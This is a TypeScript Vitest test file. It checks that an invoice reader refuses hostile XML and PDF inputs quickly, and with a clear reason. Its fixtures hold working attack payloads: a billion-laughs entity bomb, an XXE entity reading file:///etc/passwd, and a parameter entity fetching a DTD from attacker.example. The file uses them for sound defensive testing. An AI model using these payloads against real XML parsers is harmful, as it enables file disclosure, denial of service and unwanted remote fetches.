import { describe, expect, it } from 'vitest';
import { readDocument } from '../../../lambdas/readers/index.ts';
import { fixtureBytes, input, pdfWith, refusal } from './support.ts';

const UBL = 'xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"';

const billionLaughs = [
  '<?xml version="1.0"?>',
  '<!DOCTYPE lolz [',
  '<!ENTITY lol "lol">',
  ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`),
  ']>',
  `<Invoice ${UBL}><ID>&lol9;</ID></Invoice>`,
].join('\n');

const externalEntity = `<?xml version="1.0"?><!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><Invoice ${UBL}><ID>&xxe;</ID></Invoice>`;
const parameterEntity = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]><Invoice ${UBL}/>`;
const deep = (levels: number) => `<Invoice ${UBL}>${'<Note>'.repeat(levels)}x${'</Note>'.repeat(levels)}</Invoice>`;

function oversized(): Uint8Array {
  const bytes = new Uint8Array(21 * 1024 * 1024).fill(0x20);
  bytes.set(new TextEncoder().encode(`<Invoice ${UBL}>`));
  return bytes;
}

async function truncatedPdf(): Promise<Uint8Array> {
  const pdf = await pdfWith([{ name: 'factur-x.xml', bytes: fixtureBytes('cii-invoice.xml') }]);
  return pdf.slice(0, Math.floor(pdf.length / 3));
}

describe('hostile inputs are refused quickly with a clear reason', () => {
  it.each([
    { case: 'billion laughs', make: async () => input(billionLaughs, 'lol.xml'), reason: 'lol.xml: XML with a DOCTYPE declaration is refused (no entity expansion or external fetch)' },
    { case: 'an external entity (XXE)', make: async () => input(externalEntity, 'xxe.xml'), reason: 'xxe.xml: XML with a DOCTYPE declaration is refused' },
    { case: 'a parameter entity', make: async () => input(parameterEntity, 'pe.xml'), reason: 'pe.xml: XML with a DOCTYPE declaration is refused' },
    { case: 'an ENTITY without a DOCTYPE', make: async () => input(`<Invoice ${UBL}><!ENTITY a "b"></Invoice>`, 'e.xml'), reason: 'e.xml: XML with a ENTITY declaration is refused' },
    { case: 'nesting 65 levels deep', make: async () => input(deep(64), 'deep.xml'), reason: 'deep.xml: XML nests elements deeper than 64 levels' },
    { case: 'nesting 200,000 levels deep', make: async () => input(deep(200_000), 'deeper.xml'), reason: 'deeper.xml: XML nests elements deeper than 64 levels' },
    { case: 'XML over 20 MB', make: async () => input(oversized(), 'big.xml'), reason: 'big.xml: XML is 22020096 bytes, over the 20971520-byte limit' },
    { case: 'a PDF cut to a third', make: async () => input(await truncatedPdf(), 'cut.pdf'), reason: 'cut.pdf: ' },
    { case: 'a 15-byte PDF', make: async () => input('%PDF-1.4\n%\u00e2\u00e3\n1 0', 'tiny.pdf'), reason: 'tiny.pdf: not a readable PDF' },
    { case: 'a PDF header followed by junk', make: async () => input(`%PDF-1.7\n${'\u0000\u00ff garbage '.repeat(5000)}`, 'junk.pdf'), reason: 'junk.pdf: ' },
  ])('$case', async ({ make, reason }) => {
    const document = await make();
    const started = process.cpuUsage();

    const results = await readDocument(document);

    expect(refusal(results)).toContain(reason);
    // Refused quickly: CPU time of this process (not wall-clock time, which a busy machine stretches).
    const cpu = process.cpuUsage(started);
    expect((cpu.user + cpu.system) / 1000).toBeLessThan(3000);
  });

  it('keeps nesting up to the limit', async () => {
    const results = await readDocument(input(deep(60), 'ok.xml'));

    expect(results[0]?.bill?.document_type).toBe('invoice');
  });
});
